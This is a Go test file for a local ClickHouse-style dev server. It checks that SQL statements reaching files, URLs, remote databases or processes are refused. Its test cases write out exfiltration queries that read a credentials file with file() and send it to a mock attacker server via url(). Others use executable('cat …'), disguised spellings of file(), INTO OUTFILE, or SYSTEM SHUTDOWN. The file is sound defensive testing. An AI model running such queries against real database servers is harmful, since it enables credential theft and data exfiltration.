package chlocal

import (
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/sluicehq/sluice/testenv/chdb"
)

// secretToken is what the attacks below try to read: sluice dev keeps its
// admin token in a file under the data dir.
const secretToken = "sluice-admin-token-7f3a"

// writeSecret writes a dev-credentials.json holding secretToken and returns
// its path.
func writeSecret(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "dev-credentials.json")
	if err := os.WriteFile(path, []byte(`{"adminToken":"`+secretToken+`"}`+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// Statements that reach files, URLs, other servers or processes are refused
// before the engine runs them, however they are spelled; none may answer
// with the secret, and the attacker's server must never be called.
func TestStatementsReachingOutsideAreRefused(t *testing.T) {
	srv, db := ForTest(t)
	secret := writeSecret(t)
	dir := t.TempDir()
	var called atomic.Int64
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { called.Add(1) }))
	defer attacker.Close()
	expectOK(t, post(t, srv, q("database", db), "CREATE TABLE v (s String) ENGINE = Memory"), "")

	const denied = "497"
	for _, tc := range []struct {
		name   string
		params []string // URL parameters besides database
		body   string
		code   string // the exception code expected
	}{
		// The exfiltration requests of the security review.
		{name: "file", body: "SELECT * FROM file('" + secret + "', 'LineAsString')", code: denied},
		{name: "url from file", body: "INSERT INTO FUNCTION url('" + attacker.URL + "/x', 'LineAsString') SELECT * FROM file('" + secret + "', 'LineAsString')", code: denied},
		{name: "url from file, INTO TABLE FUNCTION", body: "INSERT INTO TABLE FUNCTION url('" + attacker.URL + "/x', 'LineAsString') SELECT 1", code: denied},
		{name: "url in SELECT", body: "SELECT * FROM url('" + attacker.URL + "/?' || (SELECT * FROM file('" + secret + "', 'RawBLOB')), 'RawBLOB')", code: denied},
		// Spellings of file(): the engine's own parse decides.
		{name: "file function", body: "SELECT file('" + secret + "')", code: denied},
		{name: "backquoted", body: "SELECT * FROM `file`('" + secret + "', 'LineAsString')", code: denied},
		{name: "double-quoted", body: `SELECT * FROM "file"('` + secret + `', 'LineAsString')`, code: denied},
		{name: "escaped in quotes", body: "SELECT * FROM `fil\\x65`('" + secret + "', 'LineAsString')", code: denied},
		{name: "comment before paren", body: "SELECT * FROM file/* x */('" + secret + "', 'LineAsString')", code: denied},
		{name: "line comment and newline", body: "SELECT * FROM file -- x\n\t('" + secret + "', 'LineAsString')", code: denied},
		{name: "no-break space", body: "SELECT * FROM file\u00a0('" + secret + "', 'LineAsString')", code: denied},
		{name: "em space", body: "SELECT * FROM file\u2003('" + secret + "', 'LineAsString')", code: denied},
		{name: "upper case", body: "select * from FILE('" + secret + "', 'LineAsString')", code: denied},
		{name: "nested comment hides nothing", body: "SELECT 1 /* /* */ */, file('" + secret + "')", code: denied},
		{name: "in a subquery", body: "SELECT (SELECT * FROM file('" + secret + "', 'LineAsString'))", code: denied},
		{name: "in view()", body: "SELECT * FROM view(SELECT * FROM file('" + secret + "', 'LineAsString'))", code: denied},
		{name: "in loop()", body: "SELECT * FROM loop(file('" + secret + "', 'LineAsString')) LIMIT 1", code: denied},
		{name: "DESCRIBE", body: "DESCRIBE TABLE file('" + secret + "', 'CSVWithNames')", code: denied},
		{name: "EXPLAIN", body: "EXPLAIN SELECT * FROM file('" + secret + "')", code: denied},
		{name: "CREATE AS", body: "CREATE TABLE c AS file('" + secret + "', 'LineAsString')", code: denied},
		{name: "function body", body: "CREATE FUNCTION readIt AS (p) -> file(p)", code: denied},
		{name: "qualified name", body: "SELECT * FROM `default`.file('" + secret + "', 'LineAsString')", code: "46"},
		{name: "INSERT INTO without FUNCTION", body: "INSERT INTO file('" + filepath.Join(dir, "out") + "', 'CSV') SELECT 1", code: "62"},
		{name: "query parameter", params: []string{"param_f", "file"}, body: "SELECT * FROM {f:Identifier}('" + secret + "', 'LineAsString')", code: "46"},
		// Other table functions.
		{name: "s3", body: "SELECT * FROM s3('" + attacker.URL + "/b/k', 'CSV')", code: denied},
		{name: "s3Cluster", body: "SELECT * FROM s3Cluster('default', '" + attacker.URL + "/b/k')", code: denied},
		{name: "gcs", body: "SELECT * FROM gcs('" + attacker.URL + "/b/k')", code: denied},
		{name: "azureBlobStorage", body: "SELECT * FROM azureBlobStorage('" + attacker.URL + "', 'c', 'b')", code: denied},
		{name: "hdfs", body: "SELECT * FROM hdfs('hdfs://127.0.0.1:1/x', 'CSV')", code: denied},
		{name: "remote", body: "SELECT * FROM remote('127.0.0.1:1', system.one)", code: denied},
		{name: "remoteSecure", body: "SELECT * FROM remoteSecure('127.0.0.1:1', system.one)", code: denied},
		{name: "cluster", body: "SELECT * FROM cluster('default', system.one)", code: denied},
		{name: "clusterAllReplicas", body: "SELECT * FROM clusterAllReplicas('default', system.one)", code: denied},
		{name: "mysql", body: "SELECT * FROM mysql('127.0.0.1:1', 'd', 't', 'u', 'p')", code: denied},
		{name: "postgresql", body: "SELECT * FROM postgresql('127.0.0.1:1', 'd', 't', 'u', 'p')", code: denied},
		{name: "mongodb", body: "SELECT * FROM mongodb('127.0.0.1:1', 'd', 'c', 'u', 'p', 'x String')", code: denied},
		{name: "sqlite", body: "SELECT * FROM sqlite('" + secret + "', 't')", code: denied},
		{name: "redis", body: "SELECT * FROM redis('127.0.0.1:1', 'k', 'k String')", code: denied},
		{name: "odbc", body: "SELECT * FROM odbc('DSN=x', 't')", code: denied},
		{name: "jdbc", body: "SELECT * FROM jdbc('x', 't')", code: denied},
		{name: "executable", body: "SELECT * FROM executable('cat " + secret + "', 'LineAsString', 's String')", code: denied},
		{name: "filesystem", body: "SELECT * FROM filesystem('" + dir + "')", code: denied},
		{name: "icebergLocal", body: "SELECT * FROM icebergLocal('" + dir + "')", code: denied},
		// Files named in clauses.
		{name: "FROM INFILE", body: "INSERT INTO v FROM INFILE '" + secret + "' FORMAT LineAsString", code: denied},
		{name: "INTO OUTFILE", body: "SELECT 1 INTO OUTFILE '" + filepath.Join(dir, "out") + "'", code: denied},
		// Engines and dictionaries.
		{name: "File engine", body: "CREATE TABLE e (s String) ENGINE = File(LineAsString, '" + secret + "')", code: denied},
		{name: "File engine quoted, no =", body: "CREATE TABLE e (s String) ENGINE \"File\"(LineAsString)", code: denied},
		{name: "URL engine", body: "CREATE TABLE e (s String) ENGINE = URL('" + attacker.URL + "', LineAsString)", code: denied},
		{name: "S3 engine", body: "CREATE TABLE e (s String) ENGINE = S3('" + attacker.URL + "/b/k', 'CSV')", code: denied},
		{name: "Executable engine", body: "CREATE TABLE e (s String) ENGINE = Executable('x.sh', 'TSV')", code: denied},
		{name: "ExecutablePool engine", body: "CREATE TABLE e (s String) ENGINE = ExecutablePool('x.sh', 'TSV')", code: denied},
		{name: "MySQL engine", body: "CREATE TABLE e (s String) ENGINE = MySQL('127.0.0.1:1', 'd', 't', 'u', 'p')", code: denied},
		{name: "PostgreSQL engine", body: "CREATE TABLE e (s String) ENGINE = PostgreSQL('127.0.0.1:1', 'd', 't', 'u', 'p')", code: denied},
		{name: "EmbeddedRocksDB at a path", body: "CREATE TABLE e (k String) ENGINE = EmbeddedRocksDB(0, '" + dir + "') PRIMARY KEY k", code: denied},
		{name: "FileLog engine", body: "CREATE TABLE e (s String) ENGINE = FileLog('" + dir + "', 'LineAsString')", code: denied},
		{name: "Distributed engine", body: "CREATE TABLE e (s String) ENGINE = Distributed('default', 'd', 't')", code: denied},
		{name: "Filesystem database", body: "CREATE DATABASE fs ENGINE = Filesystem('" + dir + "')", code: denied},
		{name: "disk at a path", body: "CREATE TABLE e (a UInt8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = local, path = '" + dir + "/')", code: denied},
		{name: "dictionary from a file", body: "CREATE DICTIONARY d (s String) PRIMARY KEY s SOURCE(FILE(path '" + secret + "' format 'LineAsString')) LAYOUT(FLAT()) LIFETIME(0)", code: denied},
		{name: "dictionary, or replace", body: "CREATE OR REPLACE DICTIONARY d (s String) PRIMARY KEY s SOURCE(CLICKHOUSE(HOST '127.0.0.1' PORT 1 TABLE 't')) LAYOUT(FLAT()) LIFETIME(0)", code: denied},
		// Statements on the engine process and its files.
		{name: "SYSTEM SHUTDOWN", body: "SYSTEM SHUTDOWN", code: denied},
		{name: "system, lower case", body: "system reload config", code: denied},
		{name: "ATTACH FROM", body: "ATTACH TABLE a FROM '" + dir + "' (a UInt8) ENGINE = MergeTree ORDER BY a", code: denied},
		{name: "BACKUP", body: "BACKUP TABLE v TO File('" + filepath.Join(dir, "b") + "')", code: denied},
		{name: "RESTORE", body: "RESTORE TABLE v FROM Disk('default', 'b')", code: denied},
		{name: "SNAPSHOT", body: "SNAPSHOT TABLE v TO Disk('default', 'b')", code: denied},
		// Settings that name files or widen what runs.
		{name: "template row file", body: "SELECT * FROM format(Template, 's String', 'x') SETTINGS format_template_row = '" + secret + "'", code: denied},
		{name: "template resultset file", params: []string{"format_template_resultset", secret}, body: "SELECT 1 FORMAT Template", code: denied},
		{name: "schema source", body: "SELECT 1 SETTINGS format_schema_source = 'file'", code: denied},
		{name: "template row file in the URL", params: []string{"format_template_row", secret}, body: "SELECT * FROM format(Template, 's String', 'x')", code: denied},
		{name: "schema file", body: "SELECT 1 AS s FORMAT Protobuf SETTINGS `format_schema` = '" + secret + ":M'", code: denied},
		{name: "schema output file", body: "SET output_format_schema = '" + filepath.Join(dir, "s") + "'", code: denied},
		{name: "errors file", params: []string{"input_format_record_errors_file_path", filepath.Join(dir, "e")}, body: "SELECT 1", code: denied},
		{name: "readonly", body: "SET readonly = 1", code: denied},
		{name: "quoted readonly", body: `SELECT 1 SETTINGS "readonly" = 2`, code: denied},
		{name: "dialect", params: []string{"dialect", "kusto"}, body: "print 1", code: denied},
		{name: "dialect SET", body: "SET dialect = 'prql'", code: denied},
		{name: "Values expressions on", body: "SET input_format_values_interpret_expressions = 1", code: denied},
		{name: "Values expressions on in the URL", params: []string{"input_format_values_deduce_templates_of_expressions", "1"}, body: "SELECT 1", code: denied},
		// Values data is checked before its expressions may run.
		{name: "file() in VALUES", body: "INSERT INTO v VALUES ('a'), (file('" + secret + "'))", code: denied},
		{name: "file() in VALUES, data in the body", params: []string{"query", "INSERT INTO v VALUES"}, body: "(`file`('" + secret + "'))", code: denied},
		{name: "file() in VALUES the engine cannot read as SQL", body: "INSERT INTO v VALUES ('a') (file('" + secret + "'))", code: "344"},
		{name: "file() in format(Values)", body: "SELECT * FROM format(Values, 's String', '(file(''" + secret + "''))')", code: "344"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			resp := post(t, srv, q(append([]string{"database", db}, tc.params...)...), tc.body)
			body := readBody(t, resp)
			if strings.Contains(body, secretToken) {
				t.Fatalf("answered with the secret: %d %q", resp.StatusCode, body)
			}
			if got := resp.Header.Get("X-ClickHouse-Exception-Code"); got != tc.code || !strings.HasPrefix(body, "Code: "+tc.code+". DB::Exception: ") {
				t.Errorf("got %d, code %q, body %q; want code %s", resp.StatusCode, got, body, tc.code)
			}
			if tc.code == denied && resp.StatusCode != http.StatusForbidden {
				t.Errorf("status %d, want 403", resp.StatusCode)
			}
		})
	}
	expectOK(t, post(t, srv, q("database", db), "SELECT count() FROM v"), "0\n")
	if n := called.Load(); n != 0 {
		t.Errorf("the attacker's server was called %d times", n)
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 0 {
		t.Errorf("files written: %v", entries)
	}
}

// Why the server checks statements itself: on its own connection the engine
// reads any file, cannot give up the grant, cannot make a narrower user, and
// readonly does not stop file().
func TestEngineCannotBeNarrowed(t *testing.T) {
	srv, _ := ForTest(t)
	secret := writeSecret(t)
	// A connection of its own: readonly, once set, cannot be undone.
	e, err := chdb.Open(srv.lanes[0].engine.Path())
	if err != nil {
		t.Fatal(err)
	}
	defer e.Close()
	query := func(sql string) (string, error) {
		res, err := e.Query(t.Context(), sql, "TabSeparated", nil)
		if err != nil {
			return "", err
		}
		return string(res.Data), nil
	}
	steal := "SELECT * FROM file('" + secret + "', 'LineAsString')"
	if got, err := query(steal); err != nil || !strings.Contains(got, secretToken) {
		t.Errorf("file() on the engine: %q, %v", got, err)
	}
	for _, sql := range []string{"REVOKE FILE ON *.* FROM default", "CREATE USER sluice_narrow"} {
		if _, err := query(sql); !isCode(err, codeAccessDenied) {
			t.Errorf("%s: %v, want ACCESS_DENIED", sql, err)
		}
	}
	if _, err := query("SET readonly = 2"); err != nil {
		t.Fatal(err)
	}
	if got, err := query(steal); err != nil || !strings.Contains(got, secretToken) {
		t.Errorf("file() under readonly: %q, %v", got, err)
	}
}

// isCode reports whether err is an engine exception with code.
func isCode(err error, code int) bool {
	var ex *chdb.Exception
	return errors.As(err, &ex) && ex.Code == code
}

// Values data the check does not read whole (past the first part of a
// request) is read as literals only.
func TestLargeValuesDataIsLiteralsOnly(t *testing.T) {
	srv, db := ForTest(t)
	expectOK(t, post(t, srv, q("database", db), "CREATE TABLE big (s String) ENGINE = Memory"), "")
	var rows strings.Builder
	for i := 0; rows.Len() <= prefixSize; i++ {
		fmt.Fprintf(&rows, "('row %d'), ", i)
	}
	literals := rows.String()
	expectOK(t, post(t, srv, q("database", db, "query", "INSERT INTO big VALUES"), literals+"('last')"), "")
	expectException(t, post(t, srv, q("database", db, "query", "INSERT INTO big VALUES"), literals+"(lower('LAST'))"),
		http.StatusInternalServerError, "344")
	expectOK(t, post(t, srv, q("database", db), "SELECT countIf(s = 'last'), countIf(s = 'row 0') FROM big"), "1\t1\n")
}

// What looks like the refused but is not still works: names in strings and
// columns, tables named like table functions, local table functions and
// engines, expressions in VALUES, and settings that are not guarded.
func TestLocalStatementsPass(t *testing.T) {
	srv, db := ForTest(t)
	for _, tc := range []struct{ query, body, want string }{
		{body: "SELECT 'file(x)', $$url(y)$$ -- file(\n", want: "file(x)\turl(y)\n"},
		{body: "SELECT count() > 0 FROM system.tables WHERE engine = 'MergeTree' OR engine != 'File'", want: "1\n"},
		{body: "SELECT engine FROM system.tables WHERE 0", want: ""},
		{body: "CREATE TABLE " + db + ".url (file String, s3 Nullable(String)) ENGINE = Memory", want: ""},
		{body: "INSERT INTO url (file) VALUES ('a'), (concat('b', toString(now()) > ''))", want: ""},
		{query: "INSERT INTO url FORMAT CSV", body: "c,\n", want: ""},
		{body: "SELECT file FROM url ORDER BY file", want: "a\nb1\nc\n"},
		{body: "SELECT sum(number) FROM numbers(4)", want: "6\n"},
		{body: "SELECT count() FROM (SELECT * FROM generateRandom('a UInt8') LIMIT 3)", want: "3\n"},
		{body: "SELECT * FROM format(CSV, 'a UInt8', '7')", want: "7\n"},
		{body: "SELECT * FROM format(Values, 'a UInt8', '(8)')", want: "8\n"},
		{body: "SELECT * FROM values('a UInt8', 9)", want: "9\n"},
		{body: "SELECT * FROM view(SELECT 10)", want: "10\n"},
		{body: "SELECT count() FROM merge(currentDatabase(), '^url$')", want: "3\n"},
		{body: "CREATE TABLE m (a UInt8) ENGINE = ReplacingMergeTree ORDER BY a SETTINGS index_granularity = 128", want: ""},
		{body: "SELECT 1 SETTINGS max_threads = 1, allow_experimental_json_type = 1", want: "1\n"},
		{body: "SET max_execution_time = 5", want: ""},
	} {
		expectOK(t, post(t, srv, q("database", db, "query", tc.query), tc.body), tc.want)
	}
}

// Every engine the check lets through reaches the engine, which creates the
// table or database or gives its own reason not to.
func TestLocalEnginesPass(t *testing.T) {
	srv, db := ForTest(t)
	for _, create := range []string{
		"CREATE TABLE e1 (a UInt8) ENGINE = MergeTree ORDER BY a",
		"CREATE TABLE e2 (a UInt8) ENGINE = SummingMergeTree ORDER BY a",
		"CREATE TABLE e3 (a UInt8) ENGINE = Memory",
		"CREATE TABLE e4 (a UInt8) ENGINE = Log",
		"CREATE TABLE e5 (a UInt8) ENGINE = TinyLog",
		"CREATE TABLE e6 (a UInt8) ENGINE = StripeLog",
		"CREATE TABLE e7 (a UInt8) ENGINE = Null",
		"CREATE TABLE e8 (a UInt8) ENGINE = Set",
		"CREATE TABLE e9 (a UInt8) ENGINE = Join(ANY, LEFT, a)",
		"CREATE TABLE e10 (a UInt8) ENGINE = Buffer(currentDatabase(), e3, 1, 10, 100, 10000, 1000000, 10000000, 100000000)",
		"CREATE TABLE e11 (a UInt8) ENGINE = Merge(currentDatabase(), '^e3$')",
		"CREATE TABLE e12 (a UInt8) ENGINE = GenerateRandom(1)",
		"CREATE DATABASE " + db + "_atomic ENGINE = Atomic",
		"CREATE DATABASE " + db + "_ordinary ENGINE = Ordinary",
	} {
		resp := post(t, srv, q("database", db), create)
		if code := resp.Header.Get("X-ClickHouse-Exception-Code"); code == "497" {
			t.Errorf("%s: refused: %s", create, readBody(t, resp))
		}
	}
	expectOK(t, post(t, srv, nil, "DROP DATABASE IF EXISTS "+db+"_atomic"), "")
	expectOK(t, post(t, srv, nil, "DROP DATABASE IF EXISTS "+db+"_ordinary"), "")
}

// The access rules on canonical text (as formatQuerySingleLine prints it).
func TestRefusalOfCanonicalText(t *testing.T) {
	a := &access{outside: map[string]bool{"file": true, "url": true, "disk": true}}
	for text, refused := range map[string]bool{
		"SELECT * FROM file('x')":                                        true,
		"SELECT * FROM `file`('x')":                                      true,
		"SELECT * FROM t WHERE a IN (1, 2)":                              false,
		"INSERT INTO url (a) FORMAT CSV":                                 false,
		"CREATE TABLE db.url (`a` UInt8) ENGINE = Memory":                false,
		"CREATE TABLE url (`a` UInt8) ENGINE = Memory":                   true, // unqualified: read as a call
		"ALTER TABLE db.url (DELETE WHERE 1)":                            false,
		"CREATE TABLE t (`a` UInt8) ENGINE = Log":                        false,
		"CREATE TABLE t (`a` UInt8) ENGINE = File(CSV)":                  true,
		"CREATE TABLE t (`a` UInt8) ENGINE = `Kafka`":                    true,
		"CREATE TABLE t ENGINE = Log SETTINGS disk = disk(type = local)": true,
		"SELECT engine FROM system.tables":                               false,
		"SELECT 1 SETTINGS readonly = 1":                                 true,
		"SELECT readonly FROM t":                                         false,
		"SELECT 1 INTO OUTFILE 'x'":                                      true,
		"INSERT INTO t FROM INFILE 'x' FORMAT CSV":                       true,
		"INSERT INTO FUNCTION null('a UInt8') SELECT 1":                  true,
		"CREATE DICTIONARY d (`a` UInt8) PRIMARY KEY a":                  true,
		"SYSTEM FLUSH LOGS":                                              true,
		"BACKUP TABLE t TO Disk('d', 'x')":                               true,
		"SELECT 'SYSTEM', 'file(', 'INFILE'":                             false,
		"SELECT numbers FROM numbers(1) FORMAT JSON SETTINGS a = 1":      false,
	} {
		if got := a.refusal(text) != nil; got != refused {
			t.Errorf("refusal(%q) = %v, want %v", text, got, refused)
		}
	}
}
